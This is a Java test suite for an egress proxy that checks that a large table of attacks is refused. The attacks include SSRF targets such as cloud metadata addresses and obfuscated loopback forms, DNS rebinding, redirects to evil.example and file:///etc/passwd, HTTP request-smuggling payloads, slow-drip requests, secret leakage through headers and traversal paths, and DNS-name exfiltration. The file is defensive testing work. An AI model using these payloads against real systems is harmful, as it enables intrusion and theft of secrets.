package dev.sallyport.executor.egress;

import static dev.sallyport.executor.egress.AttackedWeb.ESCAPED;
import static dev.sallyport.executor.egress.AttackedWeb.EVIL;
import static dev.sallyport.executor.egress.AttackedWeb.GOOD;
import static dev.sallyport.executor.egress.AttackedWeb.VALUE;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.arguments.host.HostRefusedException;
import dev.sallyport.arguments.host.HostRule;
import dev.sallyport.arguments.host.WebAddress;
import dev.sallyport.executor.TestFolder;
import dev.sallyport.executor.egress.http.MessageHead.Field;
import dev.sallyport.executor.secret.CallSecrets;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URLEncoder;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Ways out that a hostile tool, or a hostile server, may try, in one table. Beside each the same way is shown to lead to
 * the permitted host, and every server that an attack is for to be there; what counts is what the servers have seen. What
 * needs a program in a sandbox (other sockets, ways around the proxy, other families) is in {@code EgressSandboxTest}.
 */
class EgressAttacksTest {
    private static final String HOST = "\r\nHost: example.com\r\n";

    private static final String SMUGGLED = "GET /" + ESCAPED + " HTTP/1.1\r\nHost: example.com\r\n\r\n";

    /** What somebody tries who may reach the permitted host. */
    interface Try {
        void on(AttackedWeb web) throws Exception;
    }

    record Attack(String family, String name, Try attempt) {
        @Override
        public String toString() {
            return family + ": " + name.replace("\r\n", "|");
        }
    }

    private static final class Table {
        private final List<Attack> all = new ArrayList<>();

        /** Targets of CONNECT. */
        void targets(String family, String... targets) {
            for (String target : targets) {
                all.add(new Attack(family, "CONNECT " + target, web -> {
                    CallProxy proxy = web.proxy(GOOD, GOOD + ":80");
                    assertThat(web.said(proxy, "CONNECT " + target + " HTTP/1.1\r\n\r\n"))
                            .doesNotStartWith("HTTP/1.1 200");
                    assertThat(web.said(proxy, "GET http://" + target.replaceFirst(":443$", "") + "/ HTTP/1.1\r\n\r\n"))
                            .doesNotStartWith("HTTP/1.1 200");
                }));
            }
        }

        /** Addresses of a host that the permit names. */
        void addresses(String family, String... addresses) {
            for (String address : addresses) {
                all.add(new Attack(family, "a permitted name at " + address, web -> {
                    web.wire.names("inside.example", address.split(",", -1));
                    CallProxy proxy = web.proxy("inside.example", "inside.example:80");
                    assertThat(web.said(proxy, "CONNECT inside.example:443 HTTP/1.1\r\n\r\n"))
                            .startsWith("HTTP/1.1 403")
                            .contains("ADDRESS_REFUSED");
                    assertThat(web.said(proxy, "GET http://inside.example/ HTTP/1.1\r\n\r\n"))
                            .contains("ADDRESS_REFUSED");
                }));
            }
        }

        /** Where the permitted host's answer leads. */
        void redirects(String... locations) {
            for (String location : locations) {
                all.add(new Attack("redirect", location, web -> {
                    web.wire.names("inside.example", "10.0.0.1");
                    web.answer(
                            _ -> "HTTP/1.1 307 Elsewhere\r\nLocation: " + location + "\r\nContent-Length: 0\r\n\r\n");
                    refused(web, CallSecrets.NONE, "POST", "https://example.com/");
                }));
            }
        }

        /** Bytes that a proxy and a server could read differently, by plain HTTP and within an opened tunnel. */
        void smuggled(String... requests) {
            for (String request : requests) {
                all.add(new Attack("smuggling", request, web -> {
                    web.said(web.proxy(GOOD + ":80"), request);
                    String within = request.replace("http://example.com", "");
                    try {
                        web.byTls(web.proxy(AttackedWeb.secret(), GOOD), GOOD, within);
                    } catch (IOException _) {
                        // It was closed while there was more to read.
                    }
                    assertThat(web.good.requests().size() + web.plain.requests().size())
                            .as("at most one of each, beside the two of the control")
                            .isLessThanOrEqualTo(4);
                }));
            }
        }

        void add(String family, String name, Try attempt) {
            all.add(new Attack(family, name, attempt));
        }
    }

    static Stream<Attack> attacks() {
        Table table = new Table();
        table.targets(
                "other host",
                EVIL + ":443",
                "a." + EVIL + ":443",
                GOOD + "." + EVIL + ":443",
                "a.example.com:443",
                "user:pass@" + EVIL + ":443",
                "example.com@" + EVIL + ":443",
                EVIL + ":443#example.com",
                EVIL + ":443/@example.com:443",
                "example.com%00." + EVIL + ":443",
                "example.com%2e" + EVIL + ":443",
                "EVIL.EXAMPLE.:443",
                "ex\u00e4mple.com:443",
                "example.com,evil.example:443");
        table.targets("other port", GOOD + ":22", GOOD + ":25", GOOD + ":53", GOOD + ":8443", GOOD + ":0443");
        table.targets(
                "address as a name",
                "127.0.0.1:443",
                "127.1:443",
                "2130706433:443",
                "0x7f000001:443",
                "0177.0.0.1:443",
                "0:443",
                "[::1]:443",
                "[::ffff:127.0.0.1]:443",
                "[::ffff:7f00:1]:443",
                "[fe80::1%25eth0]:443",
                "[64:ff9b::a00:1]:443",
                "[2002:a00:1::]:443",
                TestWire.PUBLIC + ":443");
        table.targets(
                "metadata",
                "169.254.169.254:80",
                "metadata.google.internal:80",
                "[fd00:ec2::254]:80",
                "100.100.100.200:80",
                "168.63.129.16:80");
        table.targets(
                "the fleet's own ports",
                "localhost:8443",
                "localhost:9092",
                "localhost.:5432",
                "policy-service:8443",
                "fleet.example:8443",
                AttackedWeb.FLEET + ":8443");
        table.addresses(
                "a name that leads inside",
                "127.0.0.1",
                "10.0.0.1",
                "169.254.169.254",
                "168.63.129.16",
                "100.100.100.200",
                "0.0.0.0",
                "::1",
                "fe80::1",
                "fd00:ec2::254",
                "64:ff9b::a00:1",
                "2002:a00:1::",
                "2001:0:4136:e378:8000:63bf:80ff:fffe",
                AttackedWeb.FLEET,
                TestWire.PUBLIC + ",10.0.0.1",
                "10.0.0.1," + TestWire.PUBLIC);
        table.add("rebinding", "between two tunnels of a call", web -> {
            CallProxy proxy = web.proxy(GOOD, GOOD + ":80");
            web.byTls(proxy, GOOD, "GET /first HTTP/1.1" + HOST + "\r\n");
            web.wire.names(GOOD, "10.0.0.1");
            web.byTls(proxy, GOOD, "GET /second HTTP/1.1" + HOST + "\r\n");
            web.said(proxy, "GET http://example.com/third HTTP/1.1\r\n\r\n");
        });
        table.add("rebinding", "between the requests of a fetch", web -> {
            web.answer(_ -> {
                web.wire.names(GOOD, "169.254.169.254");
                return "HTTP/1.1 302 Found\r\nLocation: /again\r\nContent-Length: 0\r\n\r\n";
            });
            refused(web, CallSecrets.NONE, "GET", "https://example.com/");
        });
        table.add("rebinding", "between two calls", web -> {
            web.said(web.proxy(GOOD + ":80"), "GET http://example.com/ HTTP/1.1\r\n\r\n");
            web.wire.names(GOOD, "127.0.0.1");
            assertThat(web.said(web.proxy(GOOD + ":80"), "GET http://example.com/ HTTP/1.1\r\n\r\n"))
                    .contains("ADDRESS_REFUSED");
        });
        table.redirects(
                "http://169.254.169.254/latest/meta-data/",
                "https://127.0.0.1/",
                "https://evil.example/",
                "//evil.example/",
                "https://example.com@evil.example/",
                "https://example.com:8443/",
                "https://inside.example/",
                "https://2130706433/",
                "https://[::1]/",
                "https://evil.example\\@example.com/",
                "gopher://evil.example/",
                "file:///etc/passwd");
        server(table);
        smuggling(table);
        table.add("server name", "another permitted host's", web -> other(web, "inside.example"));
        table.add("server name", "of a host that is not permitted", web -> other(web, EVIL));
        table.add("server name", "none", web -> other(web, null));
        for (String bytes : List.of(
                "GET /" + ESCAPED + " HTTP/1.1" + HOST + "\r\n",
                "SSH-2.0-client\r\n",
                "EHLO client\r\n",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "\u0016\u0003\u0001\u0000\u0005\u0001\u0000\u0000\u0001\u0000",
                "\u0016\u0003\u0001\u0000\u0000",
                "\u0015\u0003\u0001\u0000\u0002\u0001\u0000")) {
            table.add(
                    "other protocol in a tunnel",
                    HexFormat.of().formatHex(bytes.getBytes(ISO_8859_1)),
                    web -> assertThat(web.inTunnel(web.proxy(GOOD), bytes)).isEmpty());
        }
        versions(table);
        authorization(table);
        places(table);
        paths(table);
        patience(table);
        names(table);
        return table.all.stream();
    }

    /** What a hostile server answers. */
    private static void server(Table table) {
        for (String answer : List.of(
                "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
                "HTTP/1.1 200 OK\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
                "HTTP/1.1 200 OK\nContent-Length: 0\n\n",
                "HTTP/2 200\r\n\r\n",
                "ICY 200 OK\r\n\r\n")) {
            table.add("answer", answer, web -> {
                web.answer(_ -> answer);
                assertThat(web.said(web.proxy(GOOD + ":80"), "GET http://example.com/ HTTP/1.1\r\n\r\n"))
                        .startsWith("HTTP/1.1 400")
                        .contains("MALFORMED_MESSAGE");
            });
        }
    }

    private static void smuggling(Table table) {
        String post = "POST http://example.com/ HTTP/1.1" + HOST;
        table.smuggled(
                post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Content-Length: 4\r\nContent-Length: 0\r\n\r\nbody" + SMUGGLED,
                post + "Content-Length: 4, 4\r\n\r\nbody" + SMUGGLED,
                post + "Content-Length: +4\r\n\r\nbody" + SMUGGLED,
                post + "Content-Length: -1\r\n\r\n" + SMUGGLED,
                post + "Content-Length: 0x4\r\n\r\nbody" + SMUGGLED,
                post + "Content-Length : 4\r\n\r\nbody" + SMUGGLED,
                post + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\n\r\n4;a=\"\r\nbody\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\n\r\n0x4\r\nbody\r\n0\r\n\r\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\n\r\n4\nbody\n0\n\n" + SMUGGLED,
                post + "Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n" + SMUGGLED,
                post + "Content-Length: 0\r\n\r\n" + SMUGGLED,
                post + "X: a\nContent-Length: 0\n\n" + SMUGGLED,
                post + "X: a\rGET /" + ESCAPED + "\r\n\r\n",
                "GET http://example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nHost: evil.example\r\n\r\n",
                "GET http://example.com/ HTTP/1.1 \r\n\r\n" + SMUGGLED,
                "GET http://example.com/\u0000 HTTP/1.1\r\n\r\n" + SMUGGLED);
    }

    private static void other(AttackedWeb web, @Nullable String name) throws Exception {
        refused(() -> web.byTls(web.proxy(GOOD), name, "GET /" + ESCAPED + " HTTP/1.1" + HOST + "\r\n"));
        refused(() -> web.byTls(
                web.proxy(AttackedWeb.secret(), GOOD), name, "GET /" + ESCAPED + " HTTP/1.1" + HOST + "\r\n"));
    }

    private static void versions(Table table) {
        table.add(
                "HTTP/2 and upgrades",
                "its preface to the proxy",
                web -> assertThat(web.said(web.proxy(GOOD), "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED))
                        .startsWith("HTTP/1.1 400"));
        table.add(
                "HTTP/2 and upgrades",
                "CONNECT of another version",
                web -> assertThat(web.said(web.proxy(GOOD), "CONNECT example.com:443 HTTP/2.0\r\n\r\n"))
                        .startsWith("HTTP/1.1 400"));
        table.add(
                "HTTP/2 and upgrades",
                "its preface in an opened tunnel",
                web -> assertThat(web.byTls(
                                web.proxy(AttackedWeb.secret(), GOOD),
                                GOOD,
                                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED))
                        .startsWith("HTTP/1.1 400"));
        for (String upgrade : List.of("h2c", "websocket", "TLS/1.0, HTTP/1.1")) {
            table.add("HTTP/2 and upgrades", "Upgrade: " + upgrade, web -> {
                String fields = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: " + upgrade
                        + "\r\nHTTP2-Settings: AAMAAABk\r\n\r\n";
                assertThat(web.said(web.proxy(GOOD + ":80"), "GET http://example.com/ HTTP/1.1" + HOST + fields))
                        .startsWith("HTTP/1.1 200");
                assertThat(web.plain.requests().getLast()).doesNotContain("HTTP2-Settings", upgrade);
            });
        }
    }

    private static void authorization(Table table) {
        for (String value : List.of("Basic dXNlcjpwYXNz", "Bearer {secret:key}", "Negotiate YII=")) {
            table.add("proxy authorization", value, web -> {
                CallProxy proxy = web.proxy(AttackedWeb.secret(), GOOD, GOOD + ":80");
                String field = "Proxy-Authorization: " + value + "\r\nProxy-Connection: keep-alive\r\n\r\n";
                web.said(proxy, "GET http://example.com/ HTTP/1.1" + HOST + field);
                web.said(proxy, "CONNECT example.com:443 HTTP/1.1" + HOST + field);
                web.byTls(proxy, GOOD, "GET / HTTP/1.1" + HOST + field);
                web.said(proxy, "CONNECT evil.example:443 HTTP/1.1\r\n" + field);
            });
        }
    }

    /** Where a secret is asked for that is not to go there: it is not sent, and the call is told as one that tried. */
    private static void places(Table table) {
        String basic = Base64.getEncoder().encodeToString("user:{secret:key}".getBytes(UTF_8));
        for (String request : List.of(
                "GET http://example.com/ HTTP/1.1\r\nAuthorization: Bearer {secret:key}\r\n\r\n",
                "GET http://example.com/ HTTP/1.1\r\nAuthorization: Basic " + basic + "\r\n\r\n",
                "GET http://example.com/ HTTP/1.1\r\nCookie: a={secret:key}\r\n\r\n",
                "GET http://example.com/{secret:key} HTTP/1.1\r\n\r\n",
                "GET http://example.com/?a=%7Bsecret:key%7D HTTP/1.1\r\n\r\n",
                "GET http://other.example/ HTTP/1.1\r\nAuthorization: Bearer {secret:key}\r\n\r\n")) {
            table.add("secret elsewhere", request, web -> {
                web.wire.names("other.example", TestWire.PUBLIC);
                CallProxy proxy = web.proxy(AttackedWeb.secret(), GOOD, GOOD + ":80", "other.example:80");
                assertThat(web.said(proxy, request)).doesNotStartWith("HTTP/1.1 200");
                assertThat(web.alarmed()).isTrue();
            });
        }
        for (String request : List.of(
                "GET / HTTP/1.1" + HOST + "Authorization: {secret:other}\r\n\r\n",
                "GET /{secret:key} HTTP/1.1" + HOST + "\r\n",
                "GET /?%7bsecret%3akey%7d={secret:key} HTTP/1.1" + HOST + "\r\n")) {
            table.add("secret elsewhere", "in an opened tunnel, " + request, web -> {
                CallProxy proxy = web.proxy(AttackedWeb.secret(), GOOD);
                assertThat(web.byTls(proxy, GOOD, request)).startsWith("HTTP/1.1 403");
                assertThat(web.alarmed()).isTrue();
            });
        }
        table.add("secret elsewhere", "after a redirect to another host", web -> {
            web.answer(_ -> "HTTP/1.1 307 Elsewhere\r\nLocation: https://evil.example/\r\nContent-Length: 0\r\n\r\n");
            refused(web, AttackedWeb.secret(), "GET", "https://example.com/");
        });
    }

    /** Beside the folder of paths that a secret is for, at the same host, and in what a server may read as such. */
    private static void paths(Table table) {
        for (String target : List.of(
                "/",
                "/v10/a",
                "/v1",
                "/V1/a",
                "/v1/../admin",
                "/v1/%2e%2e/admin",
                "/v1/.%2E/admin",
                "/v1/..%2fadmin",
                "/v1/%252e%252e/admin",
                "/v1//admin",
                "/v1/..;/admin",
                "/x?/v1/")) {
            table.add("path of a secret", target, web -> {
                CallProxy proxy = web.proxy(AttackedWeb.secretFor(GOOD + "/v1/"), GOOD);
                assertThat(web.byTls(
                                proxy,
                                GOOD,
                                "GET " + target + " HTTP/1.1" + HOST + "Authorization: {secret:key}\r\n\r\n"))
                        .startsWith("HTTP/1.1 403");
                assertThat(web.alarmed()).isTrue();
            });
        }
    }

    private static EgressTerms impatient() {
        return new EgressTerms(List.of(), 40, 16, 1 << 20, Duration.ofMillis(300));
    }

    private static void patience(Table table) {
        for (String begun : List.of("", "CONNECT exam", "GET http://example.com/ HTTP/1.1\r\nX: ")) {
            table.add("slow", "a head that never ends: " + begun, web -> {
                web.terms(impatient());
                dripped(web.client(web.proxy(GOOD, GOOD + ":80")).getOutputStream(), begun);
            });
        }
        table.add("slow", "a body that comes byte for byte", web -> {
            web.terms(impatient());
            ChannelSocket socket = web.client(web.proxy(GOOD + ":80"));
            dripped(
                    socket.getOutputStream(),
                    "POST http://example.com/ HTTP/1.1" + HOST + "Content-Length: 100000\r\n\r\n");
        });
        table.add("slow", "a tunnel of which nothing but a beginning comes", web -> {
            web.terms(impatient());
            ChannelSocket tunnel = web.tunnel(web.proxy(GOOD), GOOD + ":443");
            dripped(tunnel.getOutputStream(), "\u0016\u0003\u0001 \u0000\u0001\u0000\u001f\u00fc");
        });
    }

    /** Sends a byte at a time for as long as it is taken: a fifth of the proxy's patience between two. */
    private static void dripped(OutputStream out, String begun) throws Exception {
        long until = System.nanoTime() + Duration.ofSeconds(20).toNanos();
        try {
            out.write(begun.getBytes(ISO_8859_1));
            while (System.nanoTime() < until) {
                out.write('x');
                out.flush();
                Thread.sleep(60);
            }
        } catch (IOException _) {
            return;
        }
        throw new AssertionError("it was let go on for 20 s");
    }

    /** A name that is asked for is data that leaves. */
    private static void names(Table table) {
        table.add("names as messages", "names that are not permitted", web -> {
            CallProxy proxy = web.proxy(GOOD, GOOD + ":80");
            web.said(proxy, "CONNECT " + ESCAPED + ".evil.example:443 HTTP/1.1\r\n\r\n");
            web.said(proxy, "GET http://" + ESCAPED + ".evil.example/ HTTP/1.1\r\n\r\n");
            refused(web, CallSecrets.NONE, "GET", "https://" + ESCAPED + ".evil.example/");
            assertThat(web.wire.asked()).isEmpty();
        });
        table.add("names as messages", "names below a permitted one, without end", web -> {
            CallProxy proxy = web.proxy("*.example.com", "*.example.com:80");
            try {
                for (int each = 0; each < 200; each++) {
                    web.said(proxy, "CONNECT m" + each + ".example.com:443 HTTP/1.1\r\n\r\n");
                }
            } catch (IOException _) {
                // A call has no more clients than this: its proxy is closed.
            }
            assertThat(web.wire.asked()).isNotEmpty().hasSizeLessThanOrEqualTo(HostAccess.MOST_NAMES);
        });
        table.add("names as messages", "the same name again and again", web -> {
            CallProxy proxy = web.proxy("*.example.com");
            for (int each = 0; each < 20; each++) {
                web.said(proxy, "CONNECT nowhere.example.com:443 HTTP/1.1\r\n\r\n");
            }
            assertThat(web.wire.asked()).containsExactly("nowhere.example.com");
        });
    }

    private static void refused(AttackedWeb web, CallSecrets secrets, String method, String url) throws Exception {
        refused(() -> new WebFetch(web.access(GOOD, "inside.example"), secrets)
                .fetch(new WebFetch.Wanted(
                        method,
                        WebAddress.parse(url),
                        List.of(new Field("X-Given", ESCAPED)),
                        ESCAPED.getBytes(UTF_8),
                        5,
                        1 << 16,
                        1 << 10)));
    }

    private interface Refusable {
        Object call() throws Exception;
    }

    private static void refused(Refusable attempt) throws Exception {
        try {
            attempt.call();
        } catch (IOException | HostRefusedException _) {
            return;
        }
        throw new AssertionError("it was let through");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingGetsOut(Attack attack) throws Exception {
        try (AttackedWeb web = new AttackedWeb(TestFolder.named("attack"))) {
            web.control();
            attack.attempt().on(web);
            web.nothingGotOut();
        }
    }

    /** As the table is read by people: how many there are of each family. */
    @Test
    void theTableHasEveryFamily() {
        Map<String, Integer> families = new TreeMap<>();
        attacks().forEach(attack -> families.merge(attack.family(), 1, Integer::sum));

        assertThat(families.keySet())
                .contains(
                        "rebinding",
                        "redirect",
                        "server name",
                        "smuggling",
                        "slow",
                        "names as messages",
                        "address as a name",
                        "a name that leads inside",
                        "proxy authorization",
                        "the fleet's own ports",
                        "metadata",
                        "HTTP/2 and upgrades",
                        "secret elsewhere",
                        "path of a secret",
                        "other protocol in a tunnel");
        assertThat(attacks().map(Attack::toString).distinct().count())
                .isEqualTo(attacks().count())
                .isGreaterThanOrEqualTo(120);
    }

    /** A server that was sent a secret may send it back in any form, in pieces of any size: the tool does not get it. */
    @ParameterizedTest
    @ValueSource(strings = {"raw", "base64", "base64 + 1", "base64 + 2", "base64url", "hex", "HEX", "url", "json"})
    void whatAServerRepeatsOfASecretIsNotPassedOn(String form) throws Exception {
        Map<String, UnaryOperator<String>> forms = Map.of(
                "raw", value -> value,
                "base64", value -> base64(value),
                "base64 + 1", value -> base64("a" + value),
                "base64 + 2", value -> base64("ab" + value),
                "base64url", value -> Base64.getUrlEncoder().encodeToString(value.getBytes(UTF_8)),
                "hex", value -> HexFormat.of().formatHex(value.getBytes(UTF_8)),
                "HEX", value -> HexFormat.of().withUpperCase().formatHex(value.getBytes(UTF_8)),
                "url", value -> URLEncoder.encode(value, UTF_8),
                "json", value -> "\"" + value.replace("/", "\\/") + "\"");
        String repeated = Objects.requireNonNull(forms.get(form)).apply(VALUE);
        // Of what is beside the secret in base64, the first and the last group belong to both.
        String known = repeated.length() > 16 ? repeated.substring(4, repeated.length() - 4) : repeated;
        try (AttackedWeb web = new AttackedWeb(TestFolder.named("echo"))) {
            StringBuilder chunks = new StringBuilder();
            for (char each : ("before " + repeated + " after").toCharArray()) {
                chunks.append("1\r\n").append(each).append("\r\n");
            }
            web.answer(_ -> "HTTP/1.1 200 OK\r\nX-Echo: " + repeated + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks
                    + "0\r\n\r\n");

            String answer = web.byTls(
                    web.proxy(AttackedWeb.secret(), GOOD),
                    GOOD,
                    "GET / HTTP/1.1" + HOST + "Authorization: Bearer {secret:key}\r\n\r\n");
            WebFetch.Fetched fetched = new WebFetch(web.access(GOOD), AttackedWeb.secret())
                    .fetch(new WebFetch.Wanted(
                            "GET",
                            WebAddress.parse("https://example.com/"),
                            List.of(new Field("Authorization", "{secret:key}")),
                            new byte[0],
                            0,
                            1 << 16,
                            1 << 16));

            assertThat(web.good.requests())
                    .as("control: it was sent")
                    .allSatisfy(request -> assertThat(request).contains(VALUE))
                    .hasSize(2);
            String body = answer.replaceAll("\r\n[0-9a-f]+\r\n", "");
            assertThat(body).contains("[secret:key]").doesNotContain(known);
            assertThat(new String(fetched.body(), UTF_8))
                    .startsWith("before ")
                    .endsWith(" after")
                    .contains("[secret:key]")
                    .doesNotContain(known);
            assertThat(fetched.field("x-echo")).contains("[secret:key]").doesNotContain(known);
        }
    }

    @Test
    void aSecretIsAddedForTheFolderOfPathsThatItIsFor() throws Exception {
        try (AttackedWeb web = new AttackedWeb(TestFolder.named("folder"))) {
            CallProxy proxy = web.proxy(AttackedWeb.secretFor(GOOD + "/v1/"), GOOD);
            assertThat(web.byTls(proxy, GOOD, "GET /v1/a?b HTTP/1.1" + HOST + "Authorization: {secret:key}\r\n\r\n"))
                    .startsWith("HTTP/1.1 200");
            assertThat(web.byTls(proxy, GOOD, "GET /other HTTP/1.1" + HOST + "\r\n"))
                    .as("without it")
                    .startsWith("HTTP/1.1 200");
            assertThat(web.good.requests().getFirst()).contains(VALUE);
            assertThat(web.good.requests().getLast()).doesNotContain(VALUE);
        }
    }

    /** Of all calls of a node together, also one after the other. */
    @Test
    void aSecretIsNotSentWithoutEnd() throws Exception {
        try (AttackedWeb web = new AttackedWeb(TestFolder.named("rate"))) {
            web.terms(new EgressTerms(List.of(), 40, 16, 1 << 20, Duration.ofSeconds(5), 3, false));
            Clock noon = Clock.fixed(Instant.parse("2026-01-01T12:00:00Z"), ZoneOffset.UTC);
            SecretRates rates = new SecretRates(3, noon);
            HostRule host = HostRule.parse(GOOD);
            for (int each = 0; each < 3; each++) {
                assertThat(rates.admit(List.of("vault://w/key"), host)).isTrue();
            }
            assertThat(rates.admit(List.of("vault://w/key"), host)).isFalse();
            assertThat(rates.admit(List.of("vault://w/other"), host)).isTrue();
            assertThat(rates.admit(List.of("vault://w/key"), HostRule.parse("other.example")))
                    .isTrue();

            CallProxy proxy = web.proxy(AttackedWeb.secret(), GOOD);
            String request = "GET / HTTP/1.1" + HOST + "Authorization: {secret:key}\r\n\r\n";
            List<String> answers = new ArrayList<>();
            for (int each = 0; each < 8; each++) {
                answers.add(web.byTls(proxy, GOOD, request));
            }
            // The minute may end meanwhile, once.
            assertThat(answers)
                    .filteredOn(each -> each.startsWith("HTTP/1.1 429"))
                    .hasSizeBetween(2, 5);
            assertThat(web.good.requests().size()).isBetween(3, 6);
            assertThat(web.byTls(proxy, GOOD, "GET / HTTP/1.1" + HOST + "\r\n"))
                    .as("without it")
                    .startsWith("HTTP/1.1 200");
        }
    }

    private static String base64(String value) {
        return Base64.getEncoder().encodeToString(value.getBytes(UTF_8));
    }
}
